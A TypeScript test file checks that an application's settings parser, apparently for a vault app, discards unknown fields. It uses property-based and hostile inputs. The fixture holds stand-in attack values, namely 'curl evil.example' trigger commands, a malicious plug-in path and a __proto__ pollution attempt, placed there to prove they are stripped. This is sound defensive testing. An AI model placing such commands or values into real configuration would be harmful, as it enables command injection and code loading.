import fc from 'fast-check'
import { expect, test } from 'vitest'
import { StoredSettings } from '../../src-main/contract/settings'

/** Everything that the settings can say. Whatever could make the program act has no place among it. */
const known = ['backups', 'expiryWarnings', 'localApi', 'preferences', 'vaults', 'window']

function leavesOf(value: unknown): unknown[] {
  return typeof value === 'object' && value !== null
    ? Object.values(value).flatMap(leavesOf)
    : [value]
}

test('V-16: settings have no field for a command, an address, a plug-in or an export', () => {
  const hostile = {
    exportPath: '/tmp/out.json',
    exportOnSave: true,
    triggers: [{ event: 'save', command: 'curl evil.example' }],
    plugins: ['/tmp/evil.cjs'],
    updateUrl: 'https://evil.example',
    preferences: { theme: 'dark', command: 'curl evil.example', url: 'https://evil.example' },
    vaults: [{ id: 'x', file: '/tmp/a', onUnlock: 'curl evil.example' }],
    __proto__: { polluted: 'curl evil.example' },
  }
  const settings = StoredSettings.parse(JSON.parse(JSON.stringify(hostile)))
  expect(known).toEqual(expect.arrayContaining(Object.keys(settings)))
  expect(JSON.stringify(settings)).not.toMatch(/evil|curl|out\.json/)
  expect(settings.preferences.theme).toBe('dark')
})

test('V-16: whatever a settings file holds, it is read as settings of known fields', () => {
  const preference = fc.dictionary(
    fc.constantFrom('theme', 'language', 'lockAfterMinutes', 'listMode', 'command'),
    fc.jsonValue(),
  )
  const anything = fc.oneof(
    fc.jsonValue(),
    fc.record({ preferences: fc.oneof(preference, fc.jsonValue()), vaults: fc.jsonValue() }),
  )
  fc.assert(
    fc.property(anything, (value) => {
      const settings = StoredSettings.parse(value)
      expect(known).toEqual(expect.arrayContaining(Object.keys(settings)))
      expect(leavesOf(settings.preferences).every((leaf) => typeof leaf !== 'object')).toBe(true)
      // Read again, they are what was written: nothing half valid is let through.
      const written: unknown = JSON.parse(JSON.stringify(settings))
      expect(StoredSettings.parse(written)).toEqual(written)
    }),
    { numRuns: 500 },
  )
})
